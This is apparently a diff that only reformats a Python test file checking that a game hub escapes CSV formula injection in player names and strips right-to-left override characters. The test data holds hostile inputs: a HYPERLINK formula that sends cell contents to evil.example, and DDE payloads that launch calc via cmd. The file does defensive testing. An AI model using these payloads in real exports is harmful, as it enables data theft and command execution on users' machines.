@@ -1,6 +1,6 @@
-"""Names a hostile player types (issue 18, item 8): a name that starts with = + - @ must not become a formula in
-the CSV, and bidirectional control characters (a right-to-left override shows a name reversed) are stripped where
-names enter — the start-match action — and wherever a stored name is shown or exported."""
+"""Names a hostile player types (issue 18, item 8): a name that starts with = + - @ must not become a formula
+in the CSV, and bidirectional control characters (a right-to-left override shows a name reversed) are stripped
+where names enter — the start-match action — and wherever a stored name is shown or exported."""
 
 from __future__ import annotations
 
@@ -19,7 +19,7 @@ from hub.store.database import Store
 from hub.vocab.checks import RefereeInputError
 from tests.hub.store.test_damage import make_hub
 
-FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Ivan\")"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Ivan")'
 RLO, PDF, LRI = "\u202e", "\u202c", "\u2066"
 
 
@@ -40,14 +40,17 @@ def csv_rows(db: Path, match_id: int) -> tuple[str, list[dict[str, str]]]:
     return raw, list(csv.DictReader(io.StringIO(raw, newline="")))[:-1]  # the last row: the signature
 
 
-@pytest.mark.parametrize("name", [FORMULA, "+1+cmd|' /C calc'!A0", "-1+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-                                  "\tTAB", "\rCR"])
+@pytest.mark.parametrize(
+    "name",
+    [FORMULA, "+1+cmd|' /C calc'!A0", "-1+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTAB", "\rCR"],
+)
 def test_a_name_that_would_be_a_formula_is_escaped_in_the_csv(tmp_path: Path, name: str) -> None:
     match_id = play(tmp_path / "luza.db", (name, "Petr"))
     _, rows = csv_rows(tmp_path / "luza.db", match_id)
     assert rows[0]["shooter"] == "'" + name  # today's main: the name as it was, a live formula
-    assert not any(v.startswith(csvfile.FORMULA_START) for r in rows for v in r.values() if not
-                   csvfile.NUMBER.match(v))
+    assert not any(
+        v.startswith(csvfile.FORMULA_START) for r in rows for v in r.values() if not csvfile.NUMBER.match(v)
+    )
 
 
 def test_numbers_stay_numbers() -> None:
@@ -77,7 +80,9 @@ def test_a_name_stored_before_is_shown_and_exported_without_them(tmp_path: Path)
     db = tmp_path / "luza.db"
     match_id = play(db, ("Ivan", "Petr"))
     conn = sqlite3.connect(db)  # a match stored by an older hub, the override in its name
-    conn.execute("UPDATE matches SET players = ? WHERE id = ?", (json.dumps([f"Iv{RLO}an", "Petr"]), match_id))
+    conn.execute(
+        "UPDATE matches SET players = ? WHERE id = ?", (json.dumps([f"Iv{RLO}an", "Petr"]), match_id)
+    )
     conn.commit()
     conn.close()
     store = Store(db, readonly=True)
